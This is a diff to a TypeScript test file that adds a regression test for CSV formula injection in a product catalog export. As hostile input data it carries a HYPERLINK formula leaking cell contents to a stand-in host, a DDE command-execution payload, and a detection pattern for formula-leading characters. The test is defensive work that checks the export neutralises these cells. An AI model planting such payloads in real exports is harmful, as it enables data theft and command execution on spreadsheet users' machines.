@@ -9,7 +9,12 @@ import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { queryRows } from '../../db/client.js';
 import { seedCatalog } from '../seed/seeder.js';
-import { createSampleTree, importProductsCsv, shopifyCsv } from '../../../test/helpers/fixtures.js';
+import {
+  createCategory,
+  createSampleTree,
+  importProductsCsv,
+  shopifyCsv,
+} from '../../../test/helpers/fixtures.js';
 import {
   createTestApp,
   invariantViolations,
@@ -170,7 +175,8 @@ describe('the CSV export', () => {
       '',
       'hide_allocated=true',
       'search=line',
-      `search=${encodeURIComponent('"')}`,
+      // A lone '"' has no letter or digit: 422 since the hardening (products.test.ts).
+      `search=${encodeURIComponent('"Bye"')}`,
       `category_id=${tree.guns.id}`,
       `category_id=${tree.guns.id}&include_descendants=false`,
       `category_id=${tree.manualGuns.id}`,
@@ -287,6 +293,74 @@ describe('a large export', () => {
       expect(await invariantViolations(large.db)).toEqual([]);
     } finally {
       await large.close();
+    }
+  });
+});
+
+/**
+ * M1 of the hardening review: cells that a spreadsheet runs as formulas. The export wrote them
+ * unchanged; now each one starts with an apostrophe, and nothing else in the file changes.
+ */
+describe('formula cells (CSV injection)', () => {
+  const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+  const HOSTILE = [
+    { handle: 'hyperlink', title: '=HYPERLINK("http://x.example/?leak="&A1,"Click")' },
+    { handle: 'dde', title: "=cmd|' /C calc'!A0" },
+    { handle: '+1', title: '+1' },
+    { handle: '-1', title: '-1' },
+    { handle: '@sum', title: '@SUM(1)' },
+    { handle: '=1+1', title: 'Plain title, hostile handle' },
+    { handle: 'fullwidth', title: '＝1+1' },
+    { handle: 'not-leading', title: 'Sealant = best, +1 @ 20%' },
+  ];
+
+  it('prefixes every formula-leading cell with an apostrophe: names, handles, category paths', async () => {
+    const hostile = await createTestApp();
+    try {
+      expect((await importProductsCsv(hostile, shopifyCsv(HOSTILE))).statusCode).toBe(200);
+      // A tab or carriage return cannot survive the import (cells are trimmed), but the
+      // export neutralises whatever is stored.
+      await hostile.db.execute(
+        sql`insert into products (product_id, product_name) values ('tab', ${'\tx'}), ('cr', ${'\rx'})`,
+      );
+      const root = await createCategory(hostile, { name: '=HYPERLINK("http://x")' });
+      const child = await createCategory(hostile, { name: '@child', parent_id: root.id });
+      const response = await hostile.request({
+        method: 'POST',
+        url: '/api/products/dde/categories',
+        payload: { category_ids: [child.id] },
+      });
+      expect(response.statusCode).toBe(201);
+
+      const text = (await exportCsv(hostile)).body;
+      const rows = rowsOf(text);
+      const stored = await queryRows<{ product_id: string; product_name: string }>(
+        hostile.db,
+        sql`select product_id, product_name from products`,
+      );
+      expect(rows).toHaveLength(stored.length);
+      const exported = new Map(rows.map((row) => [row[0]!, row]));
+      const neutral = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);
+      for (const product of stored) {
+        const row = exported.get(neutral(product.product_id));
+        expect(row, product.product_id).toBeDefined();
+        expect(row![1]).toBe(neutral(product.product_name));
+      }
+      // No cell of the file, header included, starts a formula.
+      for (const row of parseCsv(text)) {
+        for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
+      }
+      expect(exported.get('dde')).toEqual([
+        'dde',
+        "'=cmd|' /C calc'!A0",
+        `'=HYPERLINK("http://x") > @child`,
+      ]);
+      expect(exported.get("'-1")![1]).toBe("'-1");
+      expect(exported.get('tab')![1]).toBe("'\tx");
+      expect(exported.get('cr')![1]).toBe("'\rx");
+      expect(exported.get('not-leading')![1]).toBe('Sealant = best, +1 @ 20%');
+    } finally {
+      await hostile.close();
     }
   });
 });
